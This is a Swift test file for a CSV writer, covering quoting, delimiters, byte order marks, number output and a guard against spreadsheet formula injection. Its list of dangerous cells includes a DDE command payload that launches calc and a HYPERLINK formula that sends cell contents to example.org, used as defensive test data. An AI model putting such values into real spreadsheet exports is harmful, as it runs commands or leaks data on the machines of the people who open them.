import CSV
import Testing

@Suite("Writing")
struct WriterTests {
    func written(delimiter: CSVDelimiter = .comma, _ write: (inout CSVWriter) -> Void) -> String {
        var writer = CSVWriter(delimiter: delimiter)
        write(&writer)
        return String(decoding: writer.bytes, as: UTF8.self)
    }

    @Test(arguments: [
        (["Ana", "Quito"], "Ana,Quito\r\n"),
        (["Ana, Bea", "the \"big\" house"], "\"Ana, Bea\",\"the \"\"big\"\" house\"\r\n"),
        (["two\nlines", "a\rb", "c\r\nd"], "\"two\nlines\",\"a\rb\",\"c\r\nd\"\r\n"),
        ([" outer ", "in ner"], "\" outer \",in ner\r\n"),
        (["a;b", "c|d", "e\tf"], "\"a;b\",\"c|d\",\"e\tf\"\r\n"),
        (["", ""], ",\r\n"),
        ([""], "\"\"\r\n"),
        ([], ""),
        (["outer ", " outer"], "\"outer \",\" outer\"\r\n"),
        (["sep=;"], "\"sep=;\"\r\n"),
        (["Sep=^"], "\"Sep=^\"\r\n"),
        (["é", "😀"], "é,😀\r\n"),
    ])
    func row(_ cells: [String], _ expected: String) {
        #expect(written { $0.appendRow(cells) } == expected)
    }

    @Test func otherDelimiters() throws {
        #expect(written(delimiter: .semicolon) { $0.appendRow(["a;b", "c"]) } == "\"a;b\";c\r\n")
        let hat = try #require(CSVDelimiter("^"))
        #expect(written(delimiter: hat) { $0.appendRow(["a^b", "c"]) } == "\"a^b\"^c\r\n")
    }

    @Test func byteOrderMarkComesOnce() {
        var writer = CSVWriter(byteOrderMark: true)
        writer.appendRow(["é"])
        #expect(writer.takeBytes() == [0xEF, 0xBB, 0xBF] + Array("é\r\n".utf8))
        #expect(writer.bytes.isEmpty)
        writer.appendRow(["b"])
        #expect(writer.takeBytes() == Array("b\r\n".utf8))
    }

    @Test func bytesMayBeTakenInTheMiddleOfARow() {
        var writer = CSVWriter()
        var bytes: [UInt8] = []
        for cell in ["", "a", "", "b"] {
            writer.append(cell)
            bytes += writer.takeBytes()
        }
        writer.endRow()
        writer.append("")
        bytes += writer.takeBytes()
        writer.endRow()
        bytes += writer.takeBytes()
        #expect(String(decoding: bytes, as: UTF8.self) == ",a,,b\r\n\"\"\r\n")
    }

    @Test(arguments: [
        (0, 0, "0"), (-3, 0, "-3"), (1250, 2, "12.50"), (-5, 2, "-0.05"), (7, 1, "0.7"), (0, 2, "0.00"),
        (Int.min, 0, "-9223372036854775808"), (Int.min, 3, "-9223372036854775.808"),
    ])
    func figures(_ number: Int, _ decimals: Int, _ expected: String) {
        #expect(written { $0.append(number: number, decimals: decimals) } == expected)
    }
}

@Suite("Cells that a spreadsheet would run")
struct FormulaGuardTests {
    static let dangerous = [
        "=1+1", "+593 2 555", "-3", "@SUM(A1)", "|calc", "%x", "\tx", "\r=x", "\n=x", "\u{0B}x", "\u{1}", "\u{7F}x",
        "\u{85}x", "\0=x", " =1", "\u{A0}=1", "\u{3000}=1", "  \t", "\u{FEFF}=1", "\u{FEFF} -1", "\u{200B}=1",
        "\u{2060}@x", "\u{2028}=1", "＝1", "＋1", "－1", "＠x", "=\u{338}1", "=", "-",
        "=cmd|'/c calc'!A1", "=HYPERLINK(\"https://example.org?\"&A1,\"x\")",
    ]

    @Test(arguments: dangerous)
    func guarded(_ cell: String) throws {
        var writer = CSVWriter()
        writer.appendRow([cell, cell, "end"])
        let rows = try read(writer.bytes, delimiter: .comma)
        if cell.utf8.contains(0) {
            #expect(writer.bytes.starts(with: "'\0".utf8))
        } else {
            #expect(rows == [record(1, "'" + cell, "'" + cell, "end")])
        }
    }

    @Test(arguments: ["", "Ana", "1-2", "a=b", "'=1", "3", "#1", "  Ana", " ", "(−3)", "\"=1\"", "ਪੰਜਾਬ", "5%", "é@x"])
    func leftAlone(_ cell: String) throws {
        var writer = CSVWriter()
        writer.appendRow([cell, "end"])
        #expect(try read(writer.bytes, delimiter: .comma) == [record(1, cell, "end")])
    }

    @Test func onlyATypedNumberMayBeginWithASign() {
        var writer = CSVWriter()
        writer.append(number: -3)
        writer.append("-3")
        writer.endRow()
        #expect(String(decoding: writer.bytes, as: UTF8.self) == "-3,'-3\r\n")
    }

    @Test(arguments: dangerous)
    func withoutTheGuardEveryLetterStays(_ cell: String) throws {
        guard !cell.utf8.contains(0) else { return }
        var writer = CSVWriter.withoutFormulaGuard()
        writer.appendRow([cell, "end"])
        #expect(try read(writer.bytes, delimiter: .comma) == [record(1, cell, "end")])
    }
}
